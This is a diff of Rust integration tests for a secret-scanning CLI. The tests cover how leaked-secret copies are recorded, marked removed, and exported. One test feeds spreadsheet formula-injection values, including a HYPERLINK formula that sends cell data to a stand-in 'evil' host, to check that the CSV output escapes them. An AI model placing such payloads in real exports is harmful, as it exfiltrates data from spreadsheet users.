@@ -271,6 +271,10 @@ fn record_joins_findings_to_the_inventory_and_baselines_hide_known_secrets() {
     assert_eq!(unmanaged["scanner_rule"], "github-classic-pat");
     assert_eq!(unmanaged["preview"], "ghp_…(40 chars)");
     assert_eq!(unmanaged["owasp_nhi"], "NHI2");
+    assert_eq!(
+        unmanaged["nist_csf"],
+        serde_json::json!(["ID.AM-02", "PR.AA-01", "PR.DS-01"])
+    );
     assert_eq!(unmanaged["copies"], 1);
     assert!(
         unmanaged["locations"][0]["locator"]
@@ -545,14 +549,50 @@ fn a_rescan_marks_copies_that_are_gone_as_removed() {
     };
     from(&elsewhere);
     assert_eq!(count(&steward), 2);
-    // A scan that skips files silently (ignore files) does not mark anything removed.
+    // A scan that skips files silently (ignore files, archives) does not mark anything
+    // removed, and says why on one line.
     let partial = steward
         .run(&["scan", root, "--record", "--exit-zero", "--respect-gitignore"])
         .ok();
-    assert!(!partial.stderr.contains("removed:"), "{}", partial.stderr);
+    let removals = |stderr: &str| stderr.lines().filter(|line| line.starts_with("removed:")).count();
+    assert_eq!(removals(&partial.stderr), 0, "{}", partial.stderr);
+    let notice = |stderr: &str| {
+        stderr
+            .lines()
+            .filter(|line| line.starts_with("earlier copies were not marked removed: "))
+            .map(str::to_string)
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        notice(&partial.stderr),
+        [
+            "earlier copies were not marked removed: --respect-gitignore skips ignored files, so the scan may not have read them (scan without it to mark gone copies removed)"
+        ],
+        "{}",
+        partial.stderr
+    );
+    let both = steward
+        .run(&[
+            "scan",
+            root,
+            "--record",
+            "--exit-zero",
+            "--respect-gitignore",
+            "--no-archives",
+        ])
+        .ok();
+    assert_eq!(removals(&both.stderr), 0, "{}", both.stderr);
+    let both = notice(&both.stderr);
+    assert!(
+        both.len() == 1
+            && both[0]
+                .contains("--respect-gitignore skips ignored files and --no-archives does not read inside archives"),
+        "{both:?}"
+    );
     assert_eq!(count(&steward), 2);
     // Scanned as `.` from inside, the copies are the same places (locators are absolute).
     let rescan = from(&tree);
+    assert!(notice(&rescan).is_empty(), "{rescan}");
     assert!(
         rescan.contains(&format!("removed: config_file {root}/b.env:1:7 is no longer there")),
         "{rescan}"
@@ -755,33 +795,6 @@ fn a_pipe_on_standard_input_is_scanned() {
     );
 }
 
-/// A stream has no place to name its copies by: `--record` refuses it before scanning
-/// (each stream's copies were recorded at `/dev/stdin:line:column`, and the next stream
-/// recorded marked the last one's removed).
-#[test]
-fn a_stream_is_not_recorded() {
-    let steward = Steward::new();
-    let token = github_token();
-    let piped = steward.run_with_stdin(&["scan", "/dev/stdin", "--record"], Some(&format!("T={token}\n")));
-    assert_eq!(piped.code, 2, "{}", piped.stderr);
-    assert_eq!(
-        piped.stderr.trim(),
-        "error: --record needs files or directories, whose places name the copies: /dev/stdin is a stream (scan it \
-         without --record, or save it to a file first)"
-    );
-    assert_eq!(steward.count("locations"), 0);
-    // A file next to it does not make it recordable; the file alone is.
-    let file = steward.write_file("secret.env", &format!("T={token}\n"));
-    let both = steward.run_with_stdin(
-        &["scan", file.to_str().unwrap(), "/dev/stdin", "--record"],
-        Some(&format!("T={token}\n")),
-    );
-    assert_eq!(both.code, 2, "{}", both.stderr);
-    let alone = steward.run(&["scan", file.to_str().unwrap(), "--record"]);
-    assert_eq!(alone.code, 1, "{}", alone.stderr);
-    assert_eq!(steward.count("locations"), 1);
-}
-
 /// A path given that is a link to nothing, a loop of links or a file that cannot be read is
 /// refused as a missing path is (exit 2, one line), not scanned as "no secrets found".
 #[test]
@@ -828,65 +841,6 @@ fn a_dangling_link_or_unreadable_path_given_exits_2() {
         "{}",
         output.stderr
     );
-}
-
-/// Of two copies of a secret in a file, the one deleted is the one removed (the other,
-/// moved up a line, keeps its own first sighting), and scans that see copies where they
-/// were write one `location.seen` event, not one event per copy per scan.
-#[test]
-fn the_deleted_copy_of_two_is_the_one_removed_and_rescans_write_one_event() {
-    let steward = Steward::new();
-    let dir = steward.dir.path().join("mv");
-    std::fs::create_dir_all(&dir).unwrap();
-    let secret = token_from("D1e2L3e4T5e6D7c8O9p0Y1o2F3t4W5");
-    let file = dir.join("app.env");
-    let scan_at = |now: &str| {
-        let output = steward
-            .command(&["scan", dir.to_str().unwrap(), "--record"])
-            .env("STEWARD_NOW", now)
-            .output()
-            .unwrap();
-        assert_eq!(output.status.code(), Some(1), "{output:?}");
-        String::from_utf8(output.stderr).unwrap()
-    };
-    std::fs::write(&file, format!("header\nOLD_TOKEN={secret}\nfooter\n")).unwrap();
-    scan_at("2026-12-01T00:00:00Z");
-    std::fs::write(
-        &file,
-        format!("header\nOLD_TOKEN={secret}\nfooter\nNEW_TOKEN={secret}\n"),
-    )
-    .unwrap();
-    scan_at("2026-12-10T00:00:00Z");
-    std::fs::write(&file, format!("header\nfooter\nNEW_TOKEN={secret}\n")).unwrap();
-    let stderr = scan_at("2026-12-20T00:00:00Z");
-    let place = file.display();
-    assert!(
-        stderr.contains(&format!("removed: config_file {place}:2:11 is no longer there")),
-        "{stderr}"
-    );
-    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
-    let locations = findings[0]["locations"].as_array().unwrap();
-    assert_eq!(locations.len(), 1, "{findings}");
-    assert_eq!(locations[0]["locator"], format!("{place}:3:11"));
-    assert_eq!(locations[0]["first_seen"], "2026-12-10T00:00:00Z", "{findings}");
-
-    let actions = |steward: &Steward| -> Vec<String> {
-        let log = steward.run(&["audit", "log", "-o", "json"]).ok().json();
-        log.as_array()
-            .unwrap()
-            .iter()
-            .map(|event| event["action"].as_str().unwrap().to_string())
-            .collect()
-    };
-    let before = actions(&steward).len();
-    scan_at("2026-12-21T00:00:00Z");
-    scan_at("2026-12-22T00:00:00Z");
-    let after = actions(&steward);
-    assert_eq!(after[before..], ["location.seen", "location.seen"], "{after:?}");
-    let log = steward.run(&["audit", "log", "--limit", "1", "-o", "json"]).ok().json();
-    assert_eq!(log[0]["subject"], "1 known copies seen again", "{log}");
-    assert_eq!(log[0]["after"]["last_seen"], "2026-12-22T00:00:00Z", "{log}");
-    steward.run(&["audit", "verify"]).ok();
 }
 
 /// A recorded copy is one place, whatever its line: a line added above it moves the copy
@@ -1198,6 +1152,373 @@ fn csv_cells_cannot_start_a_spreadsheet_formula() {
             assert!(!cell.starts_with(['=', '+', '-', '@']), "{row:?}");
         }
     }
+}
+
+/// The live recorded copies, as `(kind, locator)`, sorted.
+fn recorded_copies(steward: &Steward) -> Vec<(String, String)> {
+    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
+    let mut copies: Vec<(String, String)> = findings
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|finding| finding["locations"].as_array().unwrap().clone())
+        .map(|location| {
+            (
+                location["kind"].as_str().unwrap().to_string(),
+                location["locator"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    copies.sort();
+    copies
+}
+
+/// A copy in an export is recorded at its cell, field or message: one secret in two
+/// notebook cells, in a Jira issue's summary and description, or in a Slack message's
+/// text and its earlier edited text, is two copies (they were one, at the line within
+/// the cell), and a rescan after one is cleaned marks exactly that one removed.
+#[test]
+fn recorded_export_copies_name_their_cell_field_or_message() {
+    let steward = Steward::new();
+    let tree = steward.dir.path().join("exports");
+    std::fs::create_dir_all(tree.join("slack/ops")).unwrap();
+    let (in_cells, in_issue, in_chat) = (
+        token_from("N1o2T3e4B5o6O7k8C9e0L1l2S3a4B5"),
+        token_from("J1i2R3a4F5i6E7l8D9s0A1b2C3d4E5"),
+        token_from("S1l2A3c4K5e6D7i8T9e0D1t2E3x4T5"),
+    );
+    let notebook = |cells: &[Option<&str>]| {
+        let cells: Vec<serde_json::Value> = cells
+            .iter()
+            .map(|source| match source {
+                Some(secret) => {
+                    serde_json::json!({"cell_type": "code", "source": [format!("tok='{secret}'\n")], "outputs": []})
+                }
+                None => serde_json::json!({"cell_type": "markdown", "source": ["hi"]}),
+            })
+            .collect();
+        let document = serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5});
+        std::fs::write(tree.join("b.ipynb"), serde_json::to_string_pretty(&document).unwrap()).unwrap();
+    };
+    notebook(&[Some(&in_cells), None, Some(&in_cells)]);
+    let jira = |description: &str| {
+        let issues = serde_json::json!({"issues": [{"key": "OPS-1", "fields": {"summary": format!("tok {in_issue}"), "description": description}}]});
+        std::fs::write(tree.join("jira.json"), issues.to_string()).unwrap();
+    };
+    jira(&format!("tok {in_issue}"));
+    std::fs::write(
+        tree.join("slack/ops/2024-05-01.json"),
+        serde_json::json!([{"ts": "1714550100.000200", "text": format!("now {in_chat}"), "edited": {"text": format!("was {in_chat}")}}]).to_string(),
+    )
+    .unwrap();
+    let root = tree.to_str().unwrap();
+    let first = steward.run(&["scan", root, "--record"]);
+    assert_eq!(first.code, 1, "{}", first.stderr);
+    assert!(first.stderr.contains("recorded 6 locations"), "{}", first.stderr);
+    let at = |kind: &str, locator: String| (kind.to_string(), format!("{root}/{locator}"));
+    let mut expected = vec![
+        at(
+            "chat_message",
+            "slack/ops/2024-05-01.json#ops@1714550100.000200/edited.text:1".into(),
+        ),
+        at(
+            "chat_message",
+            "slack/ops/2024-05-01.json#ops@1714550100.000200/text:1".into(),
+        ),
+        at("document", "b.ipynb#cell0/source:1:6".into()),
+        at("document", "b.ipynb#cell2/source:1:6".into()),
+        at("ticket", "jira.json#OPS-1/description:1".into()),
+        at("ticket", "jira.json#OPS-1/summary:1".into()),
+    ];
+    expected.sort();
+    assert_eq!(recorded_copies(&steward), expected);
+
+    // One cell and one field are cleaned: exactly those copies are removed.
+    notebook(&[Some(&in_cells), None, None]);
+    jira("tok ${TOKEN}");
+    let rescan = steward.run(&["scan", root, "--record"]);
+    assert_eq!(rescan.code, 1, "{}", rescan.stderr);
+    let mut removed: Vec<&str> = rescan
+        .stderr
+        .lines()
+        .filter(|line| line.starts_with("removed:"))
+        .collect();
+    removed.sort();
+    assert_eq!(
+        removed,
+        vec![
+            format!("removed: document {root}/b.ipynb#cell2/source:1:6 is no longer there"),
+            format!("removed: ticket {root}/jira.json#OPS-1/description:1 is no longer there"),
+        ],
+        "{}",
+        rescan.stderr
+    );
+    expected.retain(|(_, locator)| !locator.contains("#cell2") && !locator.contains("/description"));
+    assert_eq!(recorded_copies(&steward), expected);
+}
+
+/// `findings -o csv` is machine data: one row per live copy with the JSON's fields (not
+/// the table's first copy and "(+1 more)"), and no cell of it, of `credential list -o
+/// csv` or of `nhi list -o csv` can start a spreadsheet formula: a public id, a locator
+/// recorded by hand and a purpose are anyone's text.
+#[test]
+fn findings_csv_has_a_row_per_copy_and_csv_listings_cannot_start_a_formula() {
+    let steward = Steward::new();
+    steward
+        .run(&[
+            "nhi",
+            "add",
+            "--name",
+            "x",
+            "--kind",
+            "bot",
+            "--system",
+            "s",
+            "--tier",
+            "low",
+            "--purpose=-2+3",
+        ])
+        .ok();
+    let secret = "abcdefghijklmnopqrstuvwxyz123456";
+    steward
+        .run_with_stdin(
+            &["credential", "add", "x", "--public-id", "=cmd|x", "--secret-stdin"],
+            Some(secret),
+        )
+        .ok();
+    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")";
+    for place in [formula, "wiki/page"] {
+        steward
+            .run_with_stdin(
+                &[
+                    "credential",
+                    "locate",
+                    "--kind",
+                    "document",
+                    "--at",
+                    place,
+                    "--secret-stdin",
+                ],
+                Some(secret),
+            )
+            .ok();
+    }
+    let json = steward.run(&["findings", "-o", "json"]).ok().json();
+    assert_eq!(json[0]["public_id"], "=cmd|x", "{json}");
+    let csv_text = steward.run(&["findings", "-o", "csv"]).ok().stdout;
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
+    assert_eq!(
+        headers,
+        [
+            "severity",
+            "rule",
+            "source",
+            "identity",
+            "identity_id",
+            "credential_id",
+            "public_id",
+            "credential_status",
+            "scanner_rule",
+            "preview",
+            "fingerprint",
+            "first_seen",
+            "last_seen",
+            "copies",
+            "location_kind",
+            "locator",
+            "location_first_seen",
+            "location_last_seen",
+            "remediation",
+            "owasp_nhi",
+            "nist_csf",
+        ]
+    );
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2, "{csv_text}");
+    let column = |row: &csv::StringRecord, name: &str| {
+        row[headers.iter().position(|header| header == name).unwrap()].to_string()
+    };
+    let mut locators: Vec<String> = rows.iter().map(|row| column(row, "locator")).collect();
+    locators.sort();
+    assert_eq!(locators, [format!("'{formula}"), "wiki/page".to_string()]);
+    for row in &rows {
+        assert_eq!(column(row, "severity"), "high");
+        assert_eq!(column(row, "rule"), "leaked");
+        assert_eq!(column(row, "identity"), "s/x");
+        assert_eq!(column(row, "credential_id"), json[0]["credential_id"].to_string());
+        assert_eq!(column(row, "public_id"), "'=cmd|x");
+        assert_eq!(column(row, "fingerprint"), json[0]["fingerprint"].as_str().unwrap());
+        assert_eq!(column(row, "preview"), json[0]["preview"].as_str().unwrap());
+        assert_eq!(column(row, "location_kind"), "document");
+        assert_eq!(column(row, "copies"), "2");
+        assert_eq!(column(row, "remediation"), json[0]["remediation"].as_str().unwrap());
+        assert_eq!(column(row, "owasp_nhi"), "NHI2");
+        assert_eq!(column(row, "nist_csf"), "PR.DS-01");
+        assert!(!column(row, "location_first_seen").is_empty());
+    }
+    assert!(!csv_text.contains(secret));
+
+    let credentials = steward.run(&["credential", "list", "x", "-o", "csv"]).ok().stdout;
+    assert!(credentials.contains(",'=cmd|x,"), "{credentials}");
+    let identities = steward.run(&["nhi", "list", "-o", "csv"]).ok().stdout;
+    assert!(identities.contains(",'-2+3,"), "{identities}");
+    let shown = steward.run(&["nhi", "show", "x", "-o", "csv"]).ok().stdout;
+    assert!(shown.contains(",'-2+3,") && !shown.contains(",-2+3,"), "{shown}");
+}
+
+/// A file scanned through a symbolic link to its directory is the same copy: recorded
+/// locators name the resolved path (the scan's own output keeps the path as given), so
+/// a rescan through the link removes it once cleaned, and a copy an earlier version
+/// recorded through the link is cleaned up by a scan through it.
+#[test]
+fn a_copy_scanned_through_a_linked_directory_is_one_copy() {
+    let steward = Steward::new();
+    let real = steward.dir.path().join("lk");
+    std::fs::create_dir_all(&real).unwrap();
+    let link = steward.dir.path().join("lklink");
+    std::os::unix::fs::symlink(&real, &link).unwrap();
+    let secret = token_from("L1i2N3k4E5d6D7i8R9e0C1t2O3r4Y5");
+    std::fs::write(real.join("a.env"), format!("t={secret}\n")).unwrap();
+    let canonical = real.canonicalize().unwrap().join("a.env").display().to_string();
+    let scan = |path: &std::path::Path| {
+        let output = steward.run(&["scan", path.to_str().unwrap(), "--record", "--exit-zero", "-o", "json"]);
+        assert_eq!(output.code, 0, "{}", output.stderr);
+        output
+    };
+    scan(&real);
+    let through_link = scan(&link);
+    assert_eq!(
+        through_link.json()[0]["locations"][0]["path"],
+        link.join("a.env").display().to_string(),
+        "the scan's output keeps the path as given"
+    );
+    let expected = vec![("config_file".to_string(), format!("{canonical}:1:3"))];
+    assert_eq!(recorded_copies(&steward), expected);
+
+    // As an earlier version recorded it, through the link (in the scanner's form): the
+    // next scan through the link reads that place and no longer finds the copy there.
+    let old = format!("{}:1:3", link.join("a.env").display());
+    steward
+        .run_with_stdin(
+            &[
+                "credential",
+                "locate",
+                "--kind",
+                "config_file",
+                "--at",
+                &old,
+                "--secret-stdin",
+            ],
+            Some(&secret),
+        )
+        .ok();
+    let rescan = scan(&link);
+    assert!(
+        rescan
+            .stderr
+            .contains(&format!("removed: config_file {old} is no longer there")),
+        "{}",
+        rescan.stderr
+    );
+    assert_eq!(recorded_copies(&steward), expected);
+
+    std::fs::write(real.join("a.env"), "t=${TOKEN}\n").unwrap();
+    let cleaned = scan(&link);
+    assert!(
+        cleaned
+            .stderr
+            .contains(&format!("removed: config_file {canonical}:1:3 is no longer there")),
+        "{}",
+        cleaned.stderr
+    );
+    assert!(recorded_copies(&steward).is_empty());
+}
+
+/// A stream has no place to name its copies by: `--record` refuses it before scanning
+/// (each stream's copies were recorded at `/dev/stdin:line:column`, and the next stream
+/// recorded marked the last one's removed).
+#[test]
+fn a_stream_is_not_recorded() {
+    let steward = Steward::new();
+    let token = github_token();
+    let piped = steward.run_with_stdin(&["scan", "/dev/stdin", "--record"], Some(&format!("T={token}\n")));
+    assert_eq!(piped.code, 2, "{}", piped.stderr);
+    assert_eq!(
+        piped.stderr.trim(),
+        "error: --record needs files or directories, whose places name the copies: /dev/stdin is a stream (scan it \
+         without --record, or save it to a file first)"
+    );
+    assert_eq!(steward.count("locations"), 0);
+    // A file next to it does not make it recordable; the file alone is.
+    let file = steward.write_file("secret.env", &format!("T={token}\n"));
+    let both = steward.run_with_stdin(
+        &["scan", file.to_str().unwrap(), "/dev/stdin", "--record"],
+        Some(&format!("T={token}\n")),
+    );
+    assert_eq!(both.code, 2, "{}", both.stderr);
+    let alone = steward.run(&["scan", file.to_str().unwrap(), "--record"]);
+    assert_eq!(alone.code, 1, "{}", alone.stderr);
+    assert_eq!(steward.count("locations"), 1);
+}
+
+/// Of two copies of a secret in a file, the one deleted is the one removed (the other,
+/// moved up a line, keeps its own first sighting), and scans that see copies where they
+/// were write one `location.seen` event, not one event per copy per scan.
+#[test]
+fn the_deleted_copy_of_two_is_the_one_removed_and_rescans_write_one_event() {
+    let steward = Steward::new();
+    let dir = steward.dir.path().join("mv");
+    std::fs::create_dir_all(&dir).unwrap();
+    let secret = token_from("D1e2L3e4T5e6D7c8O9p0Y1o2F3t4W5");
+    let file = dir.join("app.env");
+    let scan_at = |now: &str| {
+        let output = steward
+            .command(&["scan", dir.to_str().unwrap(), "--record"])
+            .env("STEWARD_NOW", now)
+            .output()
+            .unwrap();
+        assert_eq!(output.status.code(), Some(1), "{output:?}");
+        String::from_utf8(output.stderr).unwrap()
+    };
+    std::fs::write(&file, format!("header\nOLD_TOKEN={secret}\nfooter\n")).unwrap();
+    scan_at("2026-12-01T00:00:00Z");
+    std::fs::write(
+        &file,
+        format!("header\nOLD_TOKEN={secret}\nfooter\nNEW_TOKEN={secret}\n"),
+    )
+    .unwrap();
+    scan_at("2026-12-10T00:00:00Z");
+    std::fs::write(&file, format!("header\nfooter\nNEW_TOKEN={secret}\n")).unwrap();
+    let stderr = scan_at("2026-12-20T00:00:00Z");
+    let place = file.display();
+    assert!(
+        stderr.contains(&format!("removed: config_file {place}:2:11 is no longer there")),
+        "{stderr}"
+    );
+    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
+    let locations = findings[0]["locations"].as_array().unwrap();
+    assert_eq!(locations.len(), 1, "{findings}");
+    assert_eq!(locations[0]["locator"], format!("{place}:3:11"));
+    assert_eq!(locations[0]["first_seen"], "2026-12-10T00:00:00Z", "{findings}");
+
+    let actions = |steward: &Steward| -> Vec<String> {
+        let log = steward.run(&["audit", "log", "-o", "json"]).ok().json();
+        log.as_array()
+            .unwrap()
+            .iter()
+            .map(|event| event["action"].as_str().unwrap().to_string())
+            .collect()
+    };
+    let before = actions(&steward).len();
+    scan_at("2026-12-21T00:00:00Z");
+    scan_at("2026-12-22T00:00:00Z");
+    let after = actions(&steward);
+    assert_eq!(after[before..], ["location.seen", "location.seen"], "{after:?}");
+    let log = steward.run(&["audit", "log", "--limit", "1", "-o", "json"]).ok().json();
+    assert_eq!(log[0]["subject"], "1 known copies seen again", "{log}");
+    assert_eq!(log[0]["after"]["last_seen"], "2026-12-22T00:00:00Z", "{log}");
+    steward.run(&["audit", "verify"]).ok();
 }
 
 /// A revoked secret kept in git history can be dismissed: it stops counting, later scans
